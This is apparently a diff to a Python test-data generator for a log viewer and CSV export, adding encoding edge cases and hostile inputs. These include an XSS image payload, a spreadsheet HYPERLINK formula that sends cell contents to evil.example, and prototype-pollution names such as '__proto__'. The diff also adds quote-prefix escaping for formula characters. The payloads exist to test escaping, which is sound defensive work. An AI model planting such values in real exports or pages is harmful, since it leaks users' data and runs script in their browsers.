@@ -6,6 +6,11 @@ import random
 from datetime import datetime, timedelta, timezone
 
 HOSTILE_UNIT = "<img src=x onerror=alert(1)>"
+FORMULA_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"U-1")'
+# A name with characters beyond U+00FF, and lanes named as what a plain object inherits.
+LANE_TEXT = "Línea 1 – Prüfung"
+UNIT_TEXT = "Zähler-Ü"
+HOSTILE_LANES = ("constructor", "__proto__", "toString")
 KEYS = ["bench", "seq", "command", "started", "finished", "host", "lead_serial", "lead_index",
         "lead_location", "lane_name", "unit_id", "result", "version_before", "version_after",
         "attempts", "records_sent", "records_total", "attempt_results", "furthest_attempt",
@@ -21,8 +26,14 @@ def _time(moment):
     return moment.strftime("%Y-%m-%dT%H:%M:%SZ")
 
 
+def as_bytes(text):
+    """A name as lines wrote it before names were UTF-8: its bytes, one per character."""
+    return text.encode("utf-8").decode("latin-1")
+
+
 def _unit(number):
-    special = {4242: HOSTILE_UNIT, 777: 'U,"quoted"', 999: "U-999\r\nsecond line"}
+    special = {4242: HOSTILE_UNIT, 777: 'U,"quoted"', 999: "U-999\r\nsecond line",
+               4244: FORMULA_UNIT, 5000: UNIT_TEXT, 5001: as_bytes(UNIT_TEXT), 5002: "-1.5"}
     if number in special:
         return special[number]
     return None if number % 10 == 0 else f"U-{number % 3000:05d}"
@@ -43,7 +54,15 @@ def _line(number, rng, finished):
               ("attempts", rng.randrange(1, 4)), ("records_sent", sent),
               ("records_total", 314), ("duration_s", duration), ("image_sha256", SHA),
               ("image_version", "PXR7 V1.03"), ("program_version", "1.3.0"), ("backend", "D2XX")]
-    return json.dumps(dict(fields), ensure_ascii=False, separators=(",", ":"))
+    line = dict(fields)
+    # The same name written both ways, and a meter's versions: UTF-8 bytes, and a lone byte.
+    if number in (5000, 5001):
+        line["lane_name"] = LANE_TEXT if number == 5000 else as_bytes(LANE_TEXT)
+        line["version_before"] = "PXR7 V1.02 \u00b5"
+        line["version_after"] = as_bytes("PXR7 V1.03 – ü")
+    if 5003 <= number < 5003 + len(HOSTILE_LANES):
+        line["lane_name"] = HOSTILE_LANES[number - 5003]
+    return json.dumps(line, ensure_ascii=False, separators=(",", ":"))
 
 
 def write_record(path, count):
@@ -60,11 +79,22 @@ def write_record(path, count):
     return lines
 
 
+def shown(text):
+    """A record's text as the pages and the CSV show it: characters up to U+00FF whose bytes
+    are UTF-8 as the text they spell, any other text as it is."""
+    if not isinstance(text, str) or not any("\x80" <= c <= "\xff" for c in text):
+        return text
+    try:
+        return text.encode("latin-1").decode("utf-8")
+    except UnicodeError:
+        return text
+
+
 def label(entry):
     if entry["lane_name"]:
-        return entry["lane_name"]
+        return shown(entry["lane_name"])
     if entry["lead_serial"]:
-        return entry["lead_serial"]
+        return shown(entry["lead_serial"])
     return f"bridge {entry['lead_index']}"
 
 
@@ -73,12 +103,23 @@ def matches(entry, result="", lane="", unit="", since="", until=""):
     day = entry["finished"][:10]
     failed = entry["result"] not in ("ok", "current")
     return ((not result or entry["result"] == result or (result == "failed" and failed)) and
-            (not lane or label(entry) == lane) and (not unit or entry["unit_id"] == unit) and
+            (not lane or label(entry) == lane) and (not unit or shown(entry["unit_id"]) == unit) and
             (not since or day >= since) and (not until or day <= until))
 
 
-def csv_field(value):
-    """A value as the CSV export writes it: null empty, numbers as in the line."""
+def page_text(value):
+    """A value as the entry page shows it."""
+    if value is None:
+        return "null"
+    return shown(value) if isinstance(value, str) else json.dumps(value)
+
+
+def csv_field(value, exact=False):
+    """A value as the CSV export writes it: null empty, numbers as in the line, a text a
+    spreadsheet would run with "'" before it (unless exact)."""
     if value is None:
         return ""
-    return value if isinstance(value, str) else json.dumps(value)
+    if not isinstance(value, str):
+        return json.dumps(value)
+    text = shown(value)
+    return "'" + text if not exact and text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
